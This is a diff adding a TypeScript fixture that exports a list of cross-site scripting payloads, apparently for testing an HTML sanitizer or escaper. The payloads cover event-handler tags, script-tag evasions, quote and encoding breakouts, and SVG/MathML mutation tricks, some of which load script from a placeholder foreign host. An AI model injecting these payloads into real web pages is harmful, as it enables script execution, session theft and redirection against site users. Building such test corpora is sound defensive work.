@@ -1,0 +1,113 @@
+// Which markup would run something where it is taken for markup?
+
+import { RUN, STRANGER } from './run.ts'
+
+const HANDLERS = [
+  'img src=x onerror',
+  'img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload',
+  'body onload',
+  'body onpageshow',
+  'svg onload',
+  'input autofocus onfocus',
+  'select autofocus onfocus',
+  'textarea autofocus onfocus',
+  'button autofocus onfocus',
+  'a href=# autofocus onfocus',
+  'div tabindex=0 autofocus onfocusin',
+  'video src=x onerror',
+  'video><source src=x onerror',
+  'audio src=x onerror',
+  'details open ontoggle',
+  'marquee onstart',
+  'object data=x onerror',
+  'embed src=x onload',
+  'iframe src=about:blank onload',
+  'style onload',
+  'link rel=stylesheet href=x onerror',
+  'script src=x onerror',
+  'div style=animation-name:x onanimationstart',
+  'p onpointerenter',
+  'div contenteditable onbeforeinput',
+]
+/** What browsers take for a space between a name and its attributes. */
+const SPACES = [' ', '/', '\n', '\t', '\f']
+
+const handlers = HANDLERS.flatMap((one) => SPACES.map((space) => `<${one.replaceAll(' ', space)}=${RUN}>`))
+
+const TAGS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<<script>${RUN}//<</script>`,
+  `<script src=${STRANGER}/x.js></script>`,
+  `<script src=data:text/javascript,${RUN}></script>`,
+  `<script type=module>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<![CDATA[><script>${RUN}</script>]]>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href=${STRANGER}/>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=${STRANGER}/">`,
+  `<link rel=stylesheet href=${STRANGER}/x.css>`,
+  `<link rel=prefetch href=${STRANGER}/x>`,
+  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
+  `<form><button formaction="javascript:${RUN}">x</button></form>`,
+  `<input type=image src=x formaction="javascript:${RUN}">`,
+  `<xmp><img src=x onerror=${RUN}></xmp>`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<x-y onclick=${RUN} is=x>x</x-y>`,
+  `<a href=x ping=${STRANGER}/ping>x</a>`,
+]
+
+const QUOTES = [
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `\`><img src=x onerror=${RUN}>`,
+  `" autofocus onfocus="${RUN}`,
+  `' autofocus onfocus='${RUN}`,
+  `\\"><img src=x onerror=${RUN}>`,
+  `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
+  `&#34;&#62;&#60;img src=x onerror=${RUN}&#62;`,
+  `%22%3E%3Cimg%20src=x%20onerror=${RUN}%3E`,
+  `\\u0022\\u003e\\u003cimg src=x onerror=${RUN}\\u003e`,
+  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
+  `';${RUN};'`,
+  `";${RUN};"`,
+  `*/${RUN}/*`,
+  `\n${RUN}\n`,
+]
+
+const FOREIGN = [
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}" /></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><set onbegin=${RUN} attributename=x></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
+  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=9>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
+  `<svg><image href=${STRANGER}/x.png onload=${RUN}></svg>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
+  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
+]
+
+export const MARKUP: readonly string[] = [...handlers, ...TAGS, ...QUOTES, ...FOREIGN]
